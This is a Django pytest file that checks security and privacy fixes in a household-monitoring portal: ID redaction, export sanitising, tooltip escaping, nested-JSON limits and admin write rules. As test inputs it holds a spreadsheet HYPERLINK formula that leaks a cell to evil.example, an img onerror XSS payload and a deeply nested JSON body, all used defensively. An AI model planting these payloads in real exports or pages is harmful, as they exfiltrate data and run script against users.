"""Issue 17, the web side: free text without ID numbers (8), formulas in exports (11), names in the
chart tooltips (13), finance lists and nested JSON (15), admin writes through the services (19),
caching, error pages and the API's 404 (20). The transfer's access matrix is in
``tests/test_access_matrix_transfer.py``.
"""

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.db import transaction
from django.test import Client, RequestFactory, override_settings
from django.urls import reverse
from django.views import defaults
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import Role, User
from areas.models import Area
from core.free_text import REDACTED, redact_stored_free_text
from core.spreadsheet import csv_text, xlsx_write
from households import services
from households.models import (
    ChangeFeed,
    FollowUpAction,
    Grievance,
    HistoryEntry,
    Person,
)
from indicators.selectors.export import rows_to_csv, rows_to_xlsx
from tests.factories import UserFactory
from tests.world import ID_A, ID_B, YEAR, World, build_world

pytestmark = pytest.mark.django_db
API = "/api/v1/"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
TAG = "<img src=x onerror=alert(1)>"
PERIOD = str(YEAR)


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        yield build_world()
        transaction.set_rollback(True)


def _page(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _api(user: User) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def _full_width(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if char.isdigit() else char for char in text)


# --- finding 8: no free text keeps a full ID number -------------------------------------------------


# issue 17 finding 8
def test_free_text_written_through_the_services_never_keeps_a_full_id(world: World):
    staff = world.a.users["village"]
    masked = REDACTED  # not even 前6后4: beside the stored birth date it would rebuild the number
    action = services.action_create(
        actor=staff,
        data={"description": f"核实成员 {ID_A} 的就业", "owner": "李四", "visit_note": f"身份证{_full_width(ID_B)}。"},
        household=world.a.household,
    )
    assert action.description == f"核实成员 {masked} 的就业"
    assert ID_B not in action.visit_note
    assert _full_width(ID_B) not in action.visit_note
    assert action.visit_note == f"身份证{REDACTED}。"
    updated = services.action_update(actor=staff, action=action, data={"description": f"再核实 {ID_A.lower()}"})
    assert ID_A not in updated.description
    grievance = services.grievance_save(
        actor=staff,
        code="XFA900",
        village_code=world.a.village.code,
        data={"received_on": world.a.grievance.received_on, "status": "办理中", "content": f"{ID_A}反映漏水"},
    )
    assert grievance.content == f"{masked}反映漏水"
    decision = services.monitoring_decide(
        actor=staff, household=world.a.household, decision="核实排除", note=f"户主{ID_A}已就业"
    )
    assert ID_A not in decision.note
    assert masked in decision.note
    for model in (FollowUpAction, Grievance):
        stored = " ".join(str(value) for value in model.objects.values_list(flat=False))
        assert ID_A not in stored
        assert ID_B not in stored
    # A longer number (a bank card) is not an ID number and stays as typed.
    card = "6222021234567890123"
    kept = services.action_update(actor=staff, action=action, data={"visit_note": f"卡号 {card}"})
    assert card in kept.visit_note


# issue 17 finding 8
def test_stored_free_text_sweep_masks_ids_written_before_the_fix(world: World):
    FollowUpAction.objects.filter(pk=world.a.action.pk).update(description=f"旧台账：{ID_A}")
    Grievance.objects.filter(pk=world.a.grievance.pk).update(handling=f"已电话联系 {ID_A}")
    assert redact_stored_free_text() == 2
    assert ID_A not in FollowUpAction.objects.get(pk=world.a.action.pk).description
    assert ID_A not in Grievance.objects.get(pk=world.a.grievance.pk).handling
    assert redact_stored_free_text() == 0  # a second run changes nothing


# --- finding 11: formulas in the exports ----------------------------------------------------------


# issue 17 finding 11
def test_spreadsheet_writer_keeps_formula_like_text_inert_and_numbers_numeric():
    assert csv_text(FORMULA) == "'" + FORMULA
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(prefix + "x").startswith("'")
    assert csv_text(-5) == -5
    assert csv_text("娄星区") == "娄星区"
    rows = [["431302", FORMULA, "county", "M9-1", "-5.00", "3", "-0.5", "", "false"]]
    text = rows_to_csv(rows)
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells[1] == "'" + FORMULA
    assert cells[4] == "-5.00"
    assert cells[6] == "-0.5"
    data = rows_to_xlsx(rows)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].value == FORMULA
    assert sheet["B2"].data_type == "s"
    assert sheet["E2"].value == -5
    assert sheet["E2"].data_type == "n"


# issue 17 finding 11
def test_xlsx_cells_of_the_portal_are_never_formulas(tmp_path: Path):
    import xlsxwriter

    path = tmp_path / "cells.xlsx"
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet()
    for column, value in enumerate([FORMULA, "@SUM(A1)", -3, 2.5, None]):
        xlsx_write(sheet, 0, column, value)
    workbook.close()
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    row = next(load_workbook(path).active.iter_rows(values_only=True))
    assert row == (FORMULA, "@SUM(A1)", -3, 2.5)


# issue 17 finding 11
def test_indicator_export_of_the_dashboard_neutralises_a_formula_name(world: World):
    Area.objects.filter(pk=world.a.county.pk).update(name=FORMULA)
    client = _page(world.admin)
    url = reverse("dashboard_export") + f"?period={PERIOD}&level=county"
    rows = list(csv.reader(io.StringIO(client.get(url + "&format=csv").content.decode())))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names[world.a.county.code] == "'" + FORMULA
    assert not any(cell.startswith("=") for row in rows for cell in row)
    response = client.get(url + "&format=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


# --- finding 13: names in the charts ----------------------------------------------------------------

DASHBOARDS_JS = Path(settings.BASE_DIR) / "static" / "js" / "dashboards.js"
NODE_HARNESS = r"""
const fs = require("fs");
const data = JSON.parse(fs.readFileSync(0, "utf8"));
let options = null;
global.echarts = { init: () => ({ setOption: (o) => { options = o; }, on: () => {}, resize: () => {} }) };
const el = { dataset: { source: "heatmap-data", title: "t", locale: "ZH" } };
global.window = { addEventListener: () => {}, location: {} };
global.document = {
  documentElement: { lang: "zh-hans" },
  readyState: "complete",
  getElementById: () => ({ textContent: JSON.stringify(data) }),
  querySelectorAll: (selector) => (selector === "[data-chart='heatmap']" ? [el] : []),
  querySelector: () => null,
  addEventListener: () => {},
};
eval(fs.readFileSync(process.argv[1], "utf8"));
const out = [];
data.cells.forEach((cell, i) => out.push(options.tooltip.formatter({ dataIndex: i, value: cell })));
process.stdout.write(JSON.stringify(out));
"""


# issue 17 finding 13
def test_heatmap_names_reach_the_page_escaped_in_the_json_and_the_tooltip(world: World):
    Area.objects.filter(pk=world.a.township.pk).update(name=TAG)
    body = _page(world.a.users["county"]).get(reverse("dashboard_county", args=[world.a.county.code])).content.decode()
    assert TAG not in body
    assert "<img" not in body
    block = re.search(r'<script id="heatmap-data" type="application/json">(.*?)</script>', body, re.S)
    assert block is not None
    data = json.loads(block.group(1))
    assert TAG in data["x"]  # the JSON carries the name as text, escaped for the HTML around it
    node = shutil.which("node") or shutil.which("nodejs")
    if node is None:
        # The formatter's escaping is then checked in the source only.
        source = DASHBOARDS_JS.read_text()
        assert "escapeHTML(data.y[" in source
        assert "escapeHTML(data.x[" in source
        assert "escapeHTML(data.texts[" in source
        return
    result = subprocess.run(
        [node, "-e", NODE_HARNESS, str(DASHBOARDS_JS)],
        input=json.dumps(data),
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    tooltips = json.loads(result.stdout)
    assert tooltips
    assert all("<img" not in tip for tip in tooltips)
    assert any("&lt;img src=x onerror=alert(1)&gt;" in tip for tip in tooltips)


# --- finding 15: finance lists and nested JSON ------------------------------------------------------


# issue 17 finding 15
@pytest.mark.parametrize("code", ["M9-1", "M9-2"])
def test_finance_lists_answer_instead_of_500(world: World, code: str):
    county = world.a.county.code
    url = reverse("indicator_list", args=[code, county]) + f"?period={PERIOD}"
    for user in (world.a.users["county"], world.admin):
        response = _page(user).get(url)
        assert response.status_code == 200, (user.username, response.status_code)
        assert world.b.county.name not in response.content.decode() or user == world.admin
        assert _page(user).get(url + "&format=xlsx").status_code == 200
    assert _page(world.a.users["township"]).get(url).status_code == 404
    outside = reverse("indicator_list", args=[code, world.b.county.code]) + f"?period={PERIOD}"
    assert _page(world.a.users["county"]).get(outside).status_code == 404


# issue 17 finding 15
def test_deeply_nested_json_body_answers_400_in_chinese(world: World):
    client = _api(world.a.users["village"])
    body = "[" * 100_000 + "]" * 100_000
    before = HistoryEntry.objects.count()
    response = client.generic("POST", f"{API}households/", body, content_type="application/json")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    detail = response.json()["detail"]
    assert "嵌套" in detail
    nested: object = "x"
    for _ in range(40):  # deeper than any API body, well within Python's recursion
        nested = [nested]
    shallow = json.dumps({"code": nested})
    assert client.generic("POST", f"{API}households/", shallow, content_type="application/json").status_code == 400
    broken = client.generic("POST", f"{API}households/", "{not json", content_type="application/json")
    assert broken.status_code == 400
    assert "JSON" in broken.json()["detail"]
    assert "parse error" not in broken.json()["detail"]
    assert HistoryEntry.objects.count() == before


# --- finding 19: admin writes through the services -------------------------------------------------


@pytest.fixture
def superuser(world: World) -> User:
    return UserFactory.create(username="root", role=Role.CITY_ADMIN, area=world.city, is_staff=True, is_superuser=True)


def _admin_form(client: Client, url: str) -> dict[str, str]:
    """The change form's current values, as the browser would post them back."""
    html = client.get(url).content.decode()
    fields: dict[str, str] = {}
    for name, value in re.findall(r'<input[^>]*?name="([^"]+)"[^>]*?value="([^"]*)"', html):
        fields.setdefault(name, value)
    for name in re.findall(r'<input[^>]*type="checkbox"[^>]*name="([^"]+)"[^>]*checked', html):
        fields[name] = "on"
    for name, body in re.findall(r'<select[^>]*name="([^"]+)"[^>]*>(.*?)</select>', html, re.S):
        selected = re.search(r'<option value="([^"]*)"[^>]*selected', body)
        fields[name] = selected.group(1) if selected else ""
    for name, body in re.findall(r'<textarea[^>]*name="([^"]+)"[^>]*>(.*?)</textarea>', html, re.S):
        fields[name] = body.strip()
    fields.pop("csrfmiddlewaretoken", None)
    return fields


# issue 17 finding 19
def test_admin_cannot_move_a_person_between_counties(world: World, superuser: User):
    client = _page(superuser)
    person = world.a.person
    url = f"/admin/households/person/{person.pk}/change/"
    form = _admin_form(client, url)
    assert "household" not in form  # the link is read-only
    feed = ChangeFeed.objects.count()
    form |= {"household": str(world.b.household.pk), "county_code": "431321", "name": "张三丰（改）"}
    response = client.post(url, form)
    assert response.status_code == 302, response.content.decode()[:2000]
    person = Person.objects.get(pk=person.pk)
    assert person.household_id == world.a.household.pk
    assert (person.county_code, person.village_code) == (world.a.county.code, world.a.village.code)
    assert person.name == "张三丰（改）"  # the editable field went through person_update
    entry = HistoryEntry.objects.filter(entity="person", object_id=person.pk).latest("id")
    assert (entry.channel, entry.user, entry.after) == ("admin", superuser, {"name": "张三丰（改）"})
    assert ChangeFeed.objects.count() == feed + 1


# issue 17 finding 19
def test_admin_writes_keep_the_service_rules(world: World, superuser: User):
    client = _page(superuser)
    household = world.a.household
    url = f"/admin/households/household/{household.pk}/change/"
    form = _admin_form(client, url) | {"village": str(world.b.village.pk), "site": str(world.b.site.pk)}
    response = client.post(url, form)
    assert response.status_code == 302
    household.refresh_from_db()
    assert household.village_id == world.a.village.pk  # village read-only: a transfer is the portal's
    assert household.site_id == world.a.site.pk  # a site of another village: refused by the service
    assert "安置点" in " ".join(str(m) for m in client.get(url).context["messages"])
    assert client.get("/admin/households/person/add/").status_code == 403
    assert client.get("/admin/households/household/add/").status_code == 403
    finance_url = f"/admin/indicators/countyfinance/{world.a.finance.pk}/change/"
    form = _admin_form(client, finance_url) | {"county": str(world.b.county.pk), "asset_proceeds": "20000"}
    assert client.post(finance_url, form).status_code == 302
    world.a.finance.refresh_from_db()
    assert world.a.finance.county_id == world.a.county.pk
    assert world.a.finance.asset_proceeds == 20000
    user_url = f"/admin/accounts/user/{world.a.users['village'].pk}/change/"
    assert 'name="area"' not in client.get(user_url).content.decode()


# --- finding 20: caching, error pages, the API's 404 ------------------------------------------------


# issue 17 finding 20
def test_personal_data_answers_are_never_stored_by_browsers(world: World):
    staff = world.a.users["village"]
    client = _page(staff)
    urls = [
        reverse("household_detail", args=[world.a.household.code]),
        f"{API}persons/",
        f"{API}persons/{world.a.person.pk}/",
        reverse("dashboard_export") + f"?period={PERIOD}&level=village",
        reverse("warnings_list", args=[world.a.village.code]) + "?format=xlsx",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
    token_client = _api(staff)
    assert "no-store" in token_client.get(f"{API}persons/")["Cache-Control"]
    # Answers to anonymous requests keep their own caching rules (the API schema holds no records).
    assert "no-store" not in Client().get(reverse("api-schema")).get("Cache-Control", "")


# issue 17 finding 20
@override_settings(DEBUG=False)
def test_error_pages_say_in_chinese_what_happened_and_what_to_do(world: World):
    response = _page(world.a.users["village"]).get("/households/HX-none/")
    assert response.status_code == 404
    text = response.content.decode()
    assert "页面不存在" in text
    assert "请核对" in text
    assert "Not Found" not in text
    request = RequestFactory().get("/")
    pages = {
        400: defaults.bad_request(request, Exception()),
        403: defaults.permission_denied(request, Exception()),
        404: defaults.page_not_found(request, Exception()),
        500: defaults.server_error(request),
    }
    for status, page in pages.items():
        body = page.content.decode()
        assert page.status_code == status
        assert f"（{status}）" in body, status
        assert "请" in body, status
        assert not re.search(r"\b(Bad Request|Forbidden|Not Found|Server Error)\b", body), status


# issue 17 finding 20
def test_income_and_finance_api_404_is_chinese(world: World):
    county_client = _api(world.a.users["county"])
    village_client = _api(world.a.users["village"])
    answers = [
        village_client.get(f"{API}incomes/HX999/{YEAR}/"),
        village_client.get(f"{API}incomes/{world.b.household.code}/{YEAR}/"),
        county_client.get(f"{API}finance/431399/{YEAR}/"),
        county_client.get(f"{API}finance/{world.b.county.code}/{YEAR}/"),
    ]
    for response in answers:
        assert response.status_code == 404
        assert response.json() == {"detail": "未找到。"}
